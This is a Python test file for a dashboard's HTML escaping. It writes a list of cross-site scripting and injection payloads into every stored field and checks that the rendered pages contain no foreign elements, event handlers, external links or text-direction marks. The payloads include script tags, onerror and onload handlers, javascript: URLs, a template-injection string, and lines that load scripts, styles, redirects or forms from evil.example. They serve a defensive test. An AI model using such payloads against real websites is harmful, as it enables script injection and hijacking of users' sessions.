"""Whatever a model, a task or a verifier wrote is text in every page: nothing of it becomes an element, a script or a link."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from bench.made_store import STUDY
from lorimer.dashboard.report import report
from lorimer.traces import codec
from tests.dashboard.conftest import Served, paths

PAYLOADS = (
    "<script>alert(1)</script>",
    "</pre><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "javascript:alert(1)",
    '" onmouseover="alert(1)" x="',
    "' onfocus=alert(1) autofocus='",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<form action=//evil.example><input name=a></form>",
    "<!--<script>--><script>alert(1)</script>",
    "\u2028<math><mtext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<details open ontoggle=alert(1)>",
    "\x1b]8;;http://evil.example\x07click<a href='data:text/html,<script>alert(1)</script>'>me</a>",
)


class Elements(HTMLParser):
    """What a page is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


QUIET = ("/s/long/flips?hunks=1", "/s/long/tasks", "/s/long/trials", "/s/long/seed")
"""Pages on which nothing stands of what `poison` writes."""
FOREIGN = {"img", "iframe", "style", "base", "form", "input", "math", "object", "embed"}


def poison(served: Served, payload: str) -> list[str]:
    """Write a payload wherever others write, and the pages on which it stands."""
    for row in served.reader.sql("SELECT name FROM sqlite_master WHERE type = 'trigger'").rows:
        served.change(f'DROP TRIGGER "{row[0]}"')  # which keep finished rows as they are
    served.change("UPDATE candidate SET title = ?, hypothesis = ?, kind = ?, cause = ?, mechanism = ?", *[payload] * 5)
    served.change("UPDATE candidate SET citations = ?", codec.dumps([{"trial": payload, "step": 1, "quote": payload}]))
    served.change("UPDATE candidate SET edit = ?", codec.dumps([{"search": "x", "replace": payload}]))
    served.change("UPDATE task SET instruction = ?, category = ?", payload, payload)
    served.change("UPDATE trial SET detail = ?, answer = ?, verifier_output = ?, cause = ?", *[payload] * 4)
    served.change("UPDATE trial SET flags = ?", codec.dumps([payload]))
    served.change("UPDATE decision SET reason = ?", payload)
    served.change("UPDATE study SET state_reason = ?, benchmark = ?, task_model = ?", *[payload] * 3)
    said = {
        "text": payload,
        "command": payload,
        "stdout": payload,
        "stderr": payload,
        "path": payload,
        "error": payload,
    }
    served.change("UPDATE step SET data = json_patch(data, ?) WHERE kind <> 'model_call'", codec.dumps(said))
    served.change(
        "UPDATE step SET data = json_patch(data, ?) WHERE kind = 'model_call'", codec.dumps({"error": payload})
    )
    served.change(
        "UPDATE message SET body = json_set(body, '$.text', ?) WHERE json_extract(body, '$.text') <> ''", payload
    )
    return paths(served)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_others_wrote_becomes_part_of_a_page(served: Served, payload: str) -> None:
    for path in poison(served, payload):
        found = Elements()
        said = served.page(path)
        found.feed(said)
        assert not found.tags & FOREIGN, path
        assert said.count("<script") == 1, path
        assert [name for name, _ in found.attributes if name.startswith("on")] == [], path
        links = [value for name, value in found.attributes if name in ("href", "src", "action", "formaction")]
        assert all(link.startswith(("/", "beside?", "#")) for link in links), path
        assert not [link for link in links if link.startswith("//")], path
        assert payload.strip()[:12] in "".join(found.text) or path.startswith(QUIET), path


def test_marks_that_turn_the_direction_of_text_are_told_of_and_do_not_work(served: Served) -> None:
    marks = "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
    payload = f"a \N{HEBREW LETTER ALEF} title{marks}"
    pages = [served.page(path) for path in poison(served, payload)]
    for said in (*pages, report(served.reader, served.root, STUDY).text):
        assert not set(said) & set(marks)
        assert "title[U+202A]" in said or payload[:5] not in said
    assert sum("[U+202E]" in said for said in pages) >= 7
